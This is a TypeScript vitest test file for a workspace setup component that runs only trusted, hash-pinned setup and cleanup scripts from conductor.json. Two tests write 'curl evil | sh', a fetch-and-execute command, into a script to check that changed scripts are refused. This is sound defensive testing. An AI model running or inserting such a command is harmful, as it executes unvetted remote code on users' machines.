import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { trustFile, writeTrust } from '../../../src/adapters/setup/trust-book.ts';
import { setupRig } from './setup-rig.ts';
import type { SetupRig } from './setup-rig.ts';

let rig: SetupRig | null = null;
afterEach(async () => {
  await rig?.repo.remove();
  rig = null;
});

const CONDUCTOR = JSON.stringify({ scripts: { setup: './s.sh', archive: 'down', zip: 1 } });

describe('what a workspace gets', () => {
  it('has no script that nobody has trusted, and says so with the line', async () => {
    rig = await setupRig({ 'conductor.json': CONDUCTOR, 's.sh': 'x\n' });
    const setup = await rig.setups.of(rig.workspace);
    expect([setup.scripts, setup.cleanup]).toEqual([[], []]);
    expect(setup.notes).toEqual([
      'the set-up script of conductor.json:1 does not run: nobody has trusted it here',
      'the clean-up script of conductor.json:1 does not run: nobody has trusted it here',
      'conductor.json:1 fanin does not know zip',
    ]);
  });

  it('has trusted scripts, and may be shown the main checkout', async () => {
    rig = await setupRig({ 'conductor.json': CONDUCTOR, 's.sh': 'x\n' });
    await rig.trust();
    const setup = await rig.setups.of(rig.workspace);
    expect(setup.scripts).toMatchObject([
      { name: 'conductor.json:1', argv: ['/bin/bash', '-c', './s.sh'] },
    ]);
    expect(setup.cleanup.map(({ argv }) => argv[2])).toEqual(['down']);
    expect(setup.reads).toEqual([rig.repo.path]);
  });

  it('has a script no more once a file that it names has changed', async () => {
    rig = await setupRig({ 'conductor.json': CONDUCTOR, 's.sh': 'x\n' });
    await rig.trust();
    const base = await rig.repo.commit({ 's.sh': 'curl evil | sh\n' });
    const setup = await rig.setups.of({ ...rig.workspace, base });
    expect(setup.scripts).toEqual([]);
    expect(setup.notes[0]).toBe(
      'the set-up script of conductor.json:1 does not run: it has changed since it was trusted (s.sh)',
    );
  });

  it('is what check copies get of the commit that is checked, but for the main checkout', async () => {
    rig = await setupRig({ 'conductor.json': CONDUCTOR, 's.sh': 'x\n' });
    await rig.trust();
    const { base } = rig.workspace;
    const own = await rig.setups.forChecks(base);
    expect([...own.scripts, ...own.cleanup].map(({ argv }) => argv[2])).toEqual(['./s.sh', 'down']);
    expect(own.env('/yard/check-1')).toMatchObject({
      CONDUCTOR_WORKSPACE_PATH: '/yard/check-1',
      FANIN_WORKSPACE_NAME: 'check-1',
    });
    expect(own).not.toHaveProperty('reads');
    const changed = await rig.setups.forChecks(
      await rig.repo.commit({ 's.sh': 'curl evil | sh\n' }),
    );
    expect(changed.scripts).toEqual([]);
    expect(changed.notes[0]).toContain('it has changed since it was trusted (s.sh)');
    const [script] = own.scripts;
    expect(script?.pin).toMatch(/^[0-9a-f]{64}$/u);
  });

  it('has the variables of the tools whose files are there, and the same port each time', async () => {
    rig = await setupRig({ 'conductor.json': CONDUCTOR });
    const { env } = await rig.setups.of(rig.workspace);
    expect(env).toMatchObject({
      CONDUCTOR_WORKSPACE_PATH: rig.workspace.path,
      CONDUCTOR_ROOT_PATH: rig.repo.path,
      CONDUCTOR_DEFAULT_BRANCH: 'main',
      FANIN_WORKSPACE_NAME: 'r1-core-1',
    });
    expect(Object.keys(env).some((name) => name.startsWith('CODEX'))).toBe(false);
    expect((await rig.setups.of(rig.workspace)).env).toEqual(env);
    await rig.setups.release(rig.workspace);
    expect(existsSync(join(rig.repo.base, 'ports'))).toBe(false);
  });

  it('knows the main branch of the remote', async () => {
    rig = await setupRig({ 'conductor.json': CONDUCTOR });
    await rig.repo.git('symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/trunk');
    const { env } = await rig.setups.of(rig.workspace);
    expect(env['CONDUCTOR_DEFAULT_BRANCH']).toBe('trunk');
  });

  it.each(['', '{', '{"schema":2,"entries":[]}', '{"schema":1,"entries":[{"key":1}]}'])(
    'trusts nothing by a book that says %j',
    async (text) => {
      rig = await setupRig({ 'conductor.json': CONDUCTOR });
      await rig.trust();
      writeTrust(rig.place.stateDir, []);
      await rig.repo.write({ [trustFile('.git/fanin')]: text });
      expect((await rig.setups.of(rig.workspace)).scripts).toEqual([]);
    },
  );
});
